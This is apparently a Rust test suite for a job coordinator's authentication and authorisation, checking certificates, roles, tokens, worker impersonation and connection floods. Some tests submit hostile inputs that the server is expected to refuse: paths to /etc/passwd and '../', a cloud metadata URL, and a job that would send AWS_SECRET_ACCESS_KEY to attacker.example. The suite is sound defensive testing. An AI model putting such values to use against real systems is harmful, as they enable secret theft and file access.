//! Who may call a coordinator, and what each role may do.

use std::time::Instant;

use crate::secure::{Trial, jobs, register, registered, wanted, workers};
use llink_coord::authority;
use llink_coord::serve::access::{Role, TokenUse};
use llink_proto::reach::{Credentials, Secret};
use llink_proto::{
    Artifact, AssignmentsRequest, CancelRequest, HeartbeatRequest, ListRequest, LogsRequest, RendezvousRequest,
    ReportRequest, SubmitRequest, TaskResult, instruction, report_request,
};
use time::Duration;
use tokio::io::{AsyncBufReadExt, BufReader};
use tonic::Code;

/// Calls `List`, and returns an error with the code or the reason of the connection's failure.
async fn lists(url: &str, credentials: &Credentials) -> Result<(), String> {
    let mut client = jobs(url, credentials).await?;
    let listed = client.list(ListRequest::default()).await;
    listed.map(drop).map_err(|s| format!("{:?}: {}", s.code(), s.message()))
}

/// Waits until `f` returns a value.
async fn until<T>(what: &str, mut f: impl AsyncFnMut() -> Option<T>) -> T {
    let began = Instant::now();
    loop {
        if let Some(found) = f().await {
            return found;
        }
        assert!(began.elapsed().as_secs() < 120, "waited in vain: {what}");
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
}

fn job(trial: &Trial, output: &str) -> SubmitRequest {
    SubmitRequest {
        job_toml: format!(
            "output = \"{output}\"\n[corpus]\nsource = \"sample\"\ntrain_pairs = 1200\nholdout_pairs = 300\n"
        ),
        file_name: "job.toml".into(),
        base_dir: trial.path("data").to_string_lossy().into_owned(),
        dry_run: false,
    }
}

#[tokio::test]
async fn certificates_of_another_authority_and_none_at_all_are_refused() {
    let (trial, coordinator) = Trial::served().await;
    let url = &coordinator.url;
    assert!(url.starts_with("https://"), "{url}");
    assert_eq!(lists(url, &trial.certificate("eve")).await, Ok(()));
    trial.write("others", &authority::make(&wanted(Duration::days(1)), None).unwrap());
    let said = lists(url, &trial.certificate_of("others", "root")).await.unwrap_err();
    assert!(!said.is_empty(), "another authority's administrator is nobody here");
    let nobody = Credentials { authority: Some(trial.path("certs/ca.crt")), ..Credentials::default() };
    let said = lists(url, &nobody).await.unwrap_err();
    assert!(said.contains("Unauthenticated") && said.contains("--tls-cert"), "{said}");
    // Conversely, a client refuses a coordinator of another authority.
    let fooled = Credentials { authority: Some(trial.path("others/ca.crt")), ..trial.certificate("ada") };
    let said = lists(url, &fooled).await.unwrap_err();
    assert!(said.contains("certificate"), "{said}");
    coordinator.stop().await.unwrap();
}

async fn worker_ends(line: &str) -> (Option<i32>, String) {
    let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_llink-coord"));
    command.arg("worker").args(line.split(' ')).kill_on_drop(true);
    let ended = tokio::time::timeout(std::time::Duration::from_secs(60), command.output()).await;
    let output = ended.expect("it ends by itself").unwrap();
    (output.status.code(), String::from_utf8_lossy(&output.stderr).into_owned())
}

const NOBODY: &str = "--coordinator http://127.0.0.1:9";

#[tokio::test]
async fn a_workers_exit_code_says_why_it_does_not_work() {
    let (trial, coordinator) = Trial::served().await;
    let (code, said) = worker_ends(&trial.arguments(&coordinator.url, "eve")).await;
    assert_eq!(code, Some(8), "who may only read: {said}");
    coordinator.stop().await.unwrap();
    let (code, said) = worker_ends("--coordinator no-url").await;
    assert_eq!(code, Some(2), "{said}");
    let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let health = format!("--health {}", taken.local_addr().unwrap());
    for (more, expected, word) in [
        ("--connect-timeout 1", 6, "no coordinator at"),
        ("--device cuda:99", 5, "cuda:99"),
        (health.as_str(), 6, "--health"),
        ("--allow-root not/absolute", 2, "--allow-root"),
    ] {
        let (code, said) = worker_ends(&format!("{NOBODY} {more}")).await;
        assert!(code == Some(expected) && said.contains(word), "{more}: {code:?}: {said}");
    }
}

#[tokio::test]
async fn a_worker_that_is_told_to_stop_ends_with_0_only_if_no_job_runs() {
    // Nobody has said that no job runs.
    let (code, said) = worker_is_stopped(NOBODY, "cannot reach").await;
    assert!(code == Some(75) && said.contains("another worker"), "{code:?}: {said}");
    let (trial, coordinator) = Trial::served().await;
    let (code, said) = worker_is_stopped(&trial.arguments(&coordinator.url, "worker"), "registered").await;
    assert_eq!(code, Some(0), "{said}");
    coordinator.stop().await.unwrap();
}

/// Returns how a worker ends that gets SIGTERM once it has printed `word`, and its output.
async fn worker_is_stopped(line: &str, word: &str) -> (Option<i32>, String) {
    let mut worker = tokio::process::Command::new(env!("CARGO_BIN_EXE_llink-coord"))
        .arg("worker")
        .args(line.split(' '))
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(worker.stderr.take().unwrap()).lines();
    let mut said = String::new();
    while !said.contains(word) {
        said += &lines.next_line().await.unwrap().expect(word);
    }
    // The answer to its first heartbeat, after at most two seconds, says whether a job runs.
    tokio::time::sleep(std::time::Duration::from_secs(10)).await;
    let pid = worker.id().unwrap().to_string();
    std::process::Command::new("kill").args(["-TERM", &pid]).status().unwrap();
    while let Some(line) = lines.next_line().await.unwrap() {
        said += &line;
    }
    (worker.wait().await.unwrap().code(), said)
}

#[tokio::test]
async fn a_certificate_that_runs_out_stops_counting_on_an_open_connection_too() {
    let (trial, coordinator) = Trial::served().await;
    let authority = trial.authority("certs");
    trial.write("gone", &authority::make(&wanted(Duration::seconds(-60)), Some(&authority)).unwrap());
    assert!(lists(&coordinator.url, &trial.certificate_of("gone", "ada")).await.is_err(), "it ran out a minute ago");
    trial.write("brief", &authority::make(&wanted(Duration::seconds(12)), Some(&authority)).unwrap());
    let mut client = jobs(&coordinator.url, &trial.certificate_of("brief", "ada")).await.unwrap();
    client.list(ListRequest::default()).await.unwrap();
    let refused = async || client.list(ListRequest::default()).await.err();
    let status = until("it counts no more", refused).await;
    assert_eq!(status.code(), Code::Unauthenticated, "{status}");
    assert!(status.message().to_lowercase().contains("expired"), "{status}");
    coordinator.stop().await.unwrap();
}

#[tokio::test]
async fn roles_are_held_to_their_calls_and_people_to_their_own_jobs() {
    let (trial, coordinator) = Trial::served().await;
    let url = &coordinator.url;
    let mut eve = jobs(url, &trial.certificate("eve")).await.unwrap();
    let mut ada = jobs(url, &trial.certificate("ada")).await.unwrap();
    let mut bob = jobs(url, &trial.certificate("bob")).await.unwrap();
    let mut root = jobs(url, &trial.certificate("root")).await.unwrap();
    let status = eve.submit(job(&trial, "out")).await.unwrap_err();
    assert_eq!(status.code(), Code::PermissionDenied);
    assert!(status.message().contains("eve has the role read"), "{status}");
    let id = ada.submit(job(&trial, "out")).await.unwrap().into_inner().job.unwrap().id;
    let cancel = || CancelRequest { job_id: id.clone() };
    assert_eq!(bob.cancel(cancel()).await.unwrap_err().code(), Code::PermissionDenied);
    assert_eq!(bob.submit(job(&trial, "out")).await.unwrap_err().code(), Code::PermissionDenied, "nor by its file");
    assert_eq!(eve.cancel(cancel()).await.unwrap_err().code(), Code::PermissionDenied);
    assert_eq!(eve.list(ListRequest::default()).await.unwrap().into_inner().jobs.len(), 1);
    ada.cancel(cancel()).await.unwrap();
    root.resume(llink_proto::ResumeRequest { job_id: id.clone() }).await.unwrap();
    // Workers see no jobs, and people take no tasks.
    let mut worker = jobs(url, &trial.certificate("worker")).await.unwrap();
    assert_eq!(worker.list(ListRequest::default()).await.unwrap_err().code(), Code::PermissionDenied);
    let mut person = workers(url, &trial.certificate("root"), "a").await;
    assert_eq!(registered(&mut person, "w").await.unwrap_err().0, Code::PermissionDenied);

    let audit = trial.audit();
    let noted = |who: &str, call: &str, outcome: &str| {
        audit.iter().any(|e| e["who"] == who && e["call"] == call && e["outcome"] == outcome)
    };
    assert!(noted("ada", "JobService/Submit", "ok"), "{audit:#?}");
    assert!(noted("bob", "JobService/Cancel", "denied") && noted("eve", "JobService/Submit", "denied"));
    let submitted = audit.iter().find(|e| e["call"] == "JobService/Submit" && e["outcome"] == "ok").unwrap();
    assert_eq!(submitted["about"], id.as_str());
    assert_eq!((&submitted["by"], &submitted["role"]), (&"certificate".into(), &"submit".into()));
    coordinator.stop().await.unwrap();
}

#[tokio::test]
async fn tokens_count_until_they_run_out_and_a_join_token_admits_one_process() {
    let trial = Trial::new();
    let ada = trial.token("ada", Role::Submit, None, TokenUse::Any);
    let late = trial.token("late", Role::Read, Some(Duration::seconds(-1)), TokenUse::Any);
    let join = trial.token("node-7", Role::Worker, None, TokenUse::Once);
    let coordinator = trial.serve().await;
    let url = coordinator.url.clone();
    assert_eq!(lists(&url, &ada).await, Ok(()));
    let said = lists(&url, &late).await.unwrap_err();
    assert!(said.contains("Unauthenticated") && said.contains("run out"), "{said}");
    assert!(lists(&url, &join).await.unwrap_err().contains("PermissionDenied"));
    let forged = trial.path("forged.token");
    std::fs::write(&forged, "llk_0000").unwrap();
    let said = lists(&url, &Credentials { token: Some(forged), ..ada.clone() }).await.unwrap_err();
    assert!(said.contains("not known"), "{said}");

    registered(&mut workers(&url, &join, "a").await, "first").await.unwrap();
    let (code, said) = registered(&mut workers(&url, &join, "b").await, "second").await.unwrap_err();
    assert_eq!(code, Code::Unauthenticated);
    assert!(said.contains("one use"), "{said}");
    registered(&mut workers(&url, &join, "a").await, "first").await.expect("the same process comes back");
    coordinator.stop().await.unwrap();

    // The next coordinator remembers the used token.
    let coordinator = trial.serve().await;
    let (code, _) = registered(&mut workers(&coordinator.url, &join, "b").await, "second").await.unwrap_err();
    assert_eq!(code, Code::Unauthenticated);
    registered(&mut workers(&coordinator.url, &join, "a").await, "first").await.unwrap();
    coordinator.stop().await.unwrap();
}

#[tokio::test]
async fn a_worker_cannot_act_in_the_name_of_another() {
    let (trial, coordinator) = Trial::served().await;
    let url = &coordinator.url;
    let mut submitter = jobs(url, &trial.certificate("ada")).await.unwrap();
    submitter.submit(job(&trial, "out")).await.unwrap();
    let mut honest = workers(url, &trial.certificate("worker"), "a").await;
    let id = registered(&mut honest, "honest").await.unwrap().worker_id;
    let assignments = AssignmentsRequest { worker_id: id.clone() };
    // Another process uses the same certificate, which pods of one Deployment share.
    let mut thief = workers(url, &trial.certificate("worker"), "b").await;
    let status = thief.assignments(assignments.clone()).await.unwrap_err();
    assert_eq!(status.code(), Code::PermissionDenied, "{status}");

    let mut instructions = honest.assignments(assignments).await.unwrap().into_inner();
    let started = instructions.message().await.unwrap().unwrap();
    let Some(instruction::Kind::Start(lease)) = started.kind else { panic!("{started:?}") };
    let report = |outcome| ReportRequest {
        worker_id: id.clone(),
        task_id: lease.task_id,
        token: lease.token,
        outcome: Some(outcome),
    };
    let done = || report(report_request::Outcome::Done(TaskResult::default()));
    let heartbeat = || HeartbeatRequest { worker_id: id.clone(), running: Vec::new() };
    let meet = || RendezvousRequest {
        worker_id: id.clone(),
        task_id: lease.task_id,
        token: lease.token,
        rank: 0,
        address: "10.0.0.66:1".into(),
    };
    assert_eq!(thief.report(done()).await.unwrap_err().code(), Code::PermissionDenied);
    assert_eq!(thief.heartbeat(heartbeat()).await.unwrap_err().code(), Code::PermissionDenied);
    assert_eq!(thief.rendezvous(meet()).await.unwrap_err().code(), Code::PermissionDenied);
    // This process has stolen the secret and has a token of its own.
    let other = trial.token("other", Role::Worker, None, TokenUse::Any);
    let known = async || {
        let status = workers(url, &other, "a").await.report(done()).await.unwrap_err();
        (status.code() != Code::Unauthenticated).then_some(status)
    };
    let status = until("its token is read", known).await;
    assert_eq!(status.code(), Code::PermissionDenied, "{status}");
    // The holder cannot report files outside the job's output either.
    let artifact = |path: &str| Artifact { path: path.into(), ..Artifact::default() };
    for path in ["../escaped", "/etc/passwd", "align/other/projector.safetensors", "shard/x/../../y"] {
        let result = TaskResult { artifacts: vec![artifact(path)], ..TaskResult::default() };
        let status = honest.report(report(report_request::Outcome::Done(result))).await.unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument, "{path}: {status}");
    }
    assert!(honest.heartbeat(heartbeat()).await.unwrap().into_inner().registered);
    let denied = trial.audit().iter().filter(|e| e["outcome"] == "denied").count();
    assert!(denied >= 5, "{denied} were noted");
    coordinator.stop().await.unwrap();
}

#[tokio::test]
async fn a_worker_without_a_secret_or_with_a_strange_name_is_refused() {
    let (trial, coordinator) = Trial::served().await;
    let (endpoint, caller) = trial.certificate("worker").endpoint(&coordinator.url).unwrap();
    let channel = endpoint.connect().await.unwrap();
    let mut bare = llink_proto::worker_service_client::WorkerServiceClient::with_interceptor(channel, caller);
    assert_eq!(bare.register(register("w")).await.unwrap_err().code(), Code::Unauthenticated);
    let mut client = workers(&coordinator.url, &trial.certificate("worker"), "a").await;
    for name in ["a b", "a\nb", &"x".repeat(101)] {
        assert_eq!(registered(&mut client, name).await.unwrap_err().0, Code::InvalidArgument, "{name:?}");
    }
    coordinator.stop().await.unwrap();
}

#[tokio::test]
async fn jobs_stay_below_the_allowed_roots() {
    let (trial, coordinator) = Trial::served().await;
    let mut ada = jobs(&coordinator.url, &trial.certificate("ada")).await.unwrap();
    for output in ["/etc/llink", "../outside", "s3://elsewhere/x", "http://169.254.169.254/latest"] {
        let status = ada.submit(job(&trial, output)).await.unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument, "{output}: {status}");
        assert!(status.message().contains("`output`") && status.message().contains("roots"), "{status}");
    }
    let mut stolen = job(&trial, "out");
    stolen.job_toml.push_str(
        "[synthesize]\nurl = \"http://attacker.example/v1\"\nmodel = \"m\"\napi_key_env = \"AWS_SECRET_ACCESS_KEY\"\n",
    );
    let status = ada.submit(stolen).await.unwrap_err();
    assert!(status.message().contains("synthesize"), "{status}");
    let mut source = job(&trial, "out");
    source.job_toml = source.job_toml.replace("\"sample\"", "\"/etc/passwd\"");
    let status = ada.submit(source).await.unwrap_err();
    assert!(status.message().contains("`corpus.source`"), "{status}");
    assert!(!status.message().contains("no such file"), "it is not even looked at: {status}");
    coordinator.stop().await.unwrap();
}

#[tokio::test]
async fn plain_text_on_a_tls_port_gets_nowhere_and_harms_nobody() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let (trial, coordinator) = Trial::served().await;
    let plain = coordinator.url.replace("https://", "http://");
    let said = lists(&plain, &Credentials::default()).await.unwrap_err();
    assert!(!said.is_empty());
    let address = coordinator.url.trim_start_matches("https://");
    let mut silent = Vec::new();
    for _ in 0..20 {
        // Some clients send bytes that are not TLS, and some send nothing and keep their connection.
        let mut stream = tokio::net::TcpStream::connect(address).await.unwrap();
        stream.write_all(b"GET / HTTP/1.1\r\n\r\n").await.unwrap();
        let mut answer = Vec::new();
        // A reset is as good an answer as an alert.
        let _ = stream.read_to_end(&mut answer).await;
        assert!(!answer.starts_with(b"HTTP/"), "nothing is served in plain text");
        silent.push(tokio::net::TcpStream::connect(address).await.unwrap());
    }
    let began = Instant::now();
    assert_eq!(lists(&coordinator.url, &trial.certificate("ada")).await, Ok(()));
    assert!(began.elapsed().as_secs() < 5, "the silent ones hold nobody up");
    drop(silent);
    coordinator.stop().await.unwrap();
}

#[tokio::test]
async fn certificates_and_tokens_that_change_are_read_anew() {
    let (trial, coordinator) = Trial::served().await;
    let url = &coordinator.url;
    let old = trial.certificate("ada");
    assert_eq!(lists(url, &old).await, Ok(()));
    // A key file that is broken changes nothing.
    std::fs::write(trial.path("certs/coordinator.key"), "half of it").unwrap();
    tokio::time::sleep(std::time::Duration::from_millis(2500)).await;
    assert_eq!(lists(url, &old).await, Ok(()));
    let mut open = jobs(url, &old).await.unwrap();
    open.list(ListRequest::default()).await.unwrap();
    // With a new authority, the old certificates are kept aside.
    let aside = trial.path("aside");
    std::fs::rename(trial.path("certs"), &aside).unwrap();
    trial.write("certs", &authority::make(&wanted(Duration::days(1)), None).unwrap());
    until("the new certificates are read", async || lists(url, &trial.certificate("ada")).await.ok()).await;
    assert!(lists(url, &trial.certificate_of("aside", "ada")).await.is_err(), "the old authority is nobody's now");
    let status = open.list(ListRequest::default()).await.unwrap_err();
    assert_eq!(status.code(), Code::Unauthenticated, "nor on an open connection: {status}");
    let token = trial.token("carol", Role::Read, None, TokenUse::Any);
    until("the new token is read", async || lists(url, &token).await.ok()).await;
    std::fs::write(trial.path("tokens.toml"), "").unwrap();
    until("the token that was taken back counts no more", async || lists(url, &token).await.err()).await;
    coordinator.stop().await.unwrap();
}

/// Opens connections to a coordinator from an address of loopback, and sends nothing.
async fn silent(url: &str, from: &str, count: usize) -> Vec<tokio::net::TcpStream> {
    let address: std::net::SocketAddr = url.split_once("//").unwrap().1.parse().unwrap();
    let mut streams = Vec::new();
    for _ in 0..count {
        let socket = tokio::net::TcpSocket::new_v4().unwrap();
        socket.bind(format!("{from}:0").parse().unwrap()).unwrap();
        streams.push(socket.connect(address).await.unwrap());
    }
    streams
}

/// Returns true if the other side closes a connection in time.
async fn is_closed(stream: &mut tokio::net::TcpStream) -> bool {
    use tokio::io::AsyncReadExt;
    let patience = std::time::Duration::from_secs(30);
    let read = tokio::time::timeout(patience, stream.read(&mut [0; 64])).await;
    matches!(read, Ok(Ok(0) | Err(_)))
}

#[tokio::test]
async fn silent_connections_lock_nobody_out_and_are_closed_within_seconds() {
    let (trial, coordinator) = Trial::served().await;
    let url = &coordinator.url;
    // Six hundred come from the person's own address, and as many from another one.
    let mut held = silent(url, "127.0.0.1", 600).await;
    held.extend(silent(url, "127.0.0.2", 600).await);
    let began = Instant::now();
    assert_eq!(lists(url, &trial.certificate("ada")).await, Ok(()));
    assert!(began.elapsed().as_secs() < 3, "{:?}", began.elapsed());
    // More of them come all the time.
    let flood = async {
        loop {
            held.extend(silent(url, "127.0.0.1", 10).await);
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
    };
    let people = async {
        for _ in 0..5 {
            assert_eq!(lists(url, &trial.certificate("ada")).await, Ok(()));
        }
    };
    tokio::select! {
        () = flood => {}
        () = people => {}
    }
    let began = Instant::now();
    for stream in &mut held {
        assert!(is_closed(stream).await, "a silent connection is held");
    }
    assert!(began.elapsed().as_secs() < 30, "{:?}", began.elapsed());
    coordinator.stop().await.unwrap();
}

#[tokio::test]
async fn wrong_tokens_slow_down_and_fill_no_log() {
    let trial = Trial::new();
    let ada = trial.token("ada", Role::Submit, None, TokenUse::Any);
    let coordinator = trial.serve().await;
    let url = &coordinator.url;
    assert_eq!(lists(url, &ada).await, Ok(()));
    let forged = Credentials { token: None, secret: Some(Secret::new("llk_0000")), ..ada.clone() };
    let mut guesser = jobs(url, &forged).await.unwrap();
    let (began, mut tried) = (Instant::now(), 0);
    while began.elapsed().as_secs() < 3 {
        let status = guesser.list(ListRequest::default()).await.unwrap_err();
        assert_eq!(status.code(), Code::Unauthenticated);
        tried += 1;
    }
    assert!((11..=15).contains(&tried), "{tried} wrong tokens in three seconds");
    let began = Instant::now();
    assert_eq!(lists(url, &ada).await, Ok(()));
    assert!(began.elapsed().as_millis() < 1000, "who shows a right one waits for nobody");
    coordinator.stop().await.unwrap();
    let audit = trial.audit();
    let denied: Vec<_> = audit.iter().filter(|entry| entry["outcome"] == "denied").collect();
    let counted: u64 = denied.iter().map(|entry| entry["times"].as_u64().unwrap_or(1)).sum();
    assert_eq!((denied.len(), counted), (2, tried), "{denied:#?}");
}

#[tokio::test]
async fn events_come_in_pages() {
    let (trial, coordinator) = Trial::served().await;
    let mut ada = jobs(&coordinator.url, &trial.certificate("ada")).await.unwrap();
    let submitted = ada.submit(job(&trial, "out")).await.unwrap().into_inner();
    let id = submitted.job.unwrap().id;
    for _ in 0..3 {
        ada.cancel(CancelRequest { job_id: id.clone() }).await.unwrap();
        ada.resume(llink_proto::ResumeRequest { job_id: id.clone() }).await.unwrap();
    }
    ada.cancel(CancelRequest { job_id: id.clone() }).await.unwrap();
    let mut logs = async |after_sequence, limit| {
        let request = LogsRequest { job_id: id.clone(), after_sequence, limit };
        ada.logs(request).await.unwrap().into_inner()
    };
    let all = logs(0, 0).await;
    assert!(all.events.len() > 4 && !all.more, "{all:?}");
    let (mut paged, mut after) = (Vec::new(), 0);
    loop {
        let page = logs(after, 2).await;
        assert!(page.events.len() <= 2);
        after = page.events.last().map_or(after, |event| event.sequence);
        paged.extend(page.events);
        if !page.more {
            break;
        }
    }
    assert_eq!(paged[..all.events.len()], all.events);
    coordinator.stop().await.unwrap();
}

#[tokio::test]
async fn a_refusal_that_repeats_what_it_was_given_still_arrives() {
    let (trial, coordinator) = Trial::served().await;
    let mut ada = jobs(&coordinator.url, &trial.certificate("ada")).await.unwrap();
    for long in ["x".repeat(1 << 20), "ខ្មែរ".repeat(100_000)] {
        let mut request = job(&trial, "out");
        request.job_toml = format!("\"{long}\" = 1\n{}", request.job_toml);
        let status = ada.submit(request).await.unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument, "{status}");
        assert!(status.message().contains("more bytes were cut"), "{}", status.message());
        let status = ada.cancel(CancelRequest { job_id: long }).await.unwrap_err();
        assert_eq!(status.code(), Code::NotFound, "{status}");
    }
    coordinator.stop().await.unwrap();
}
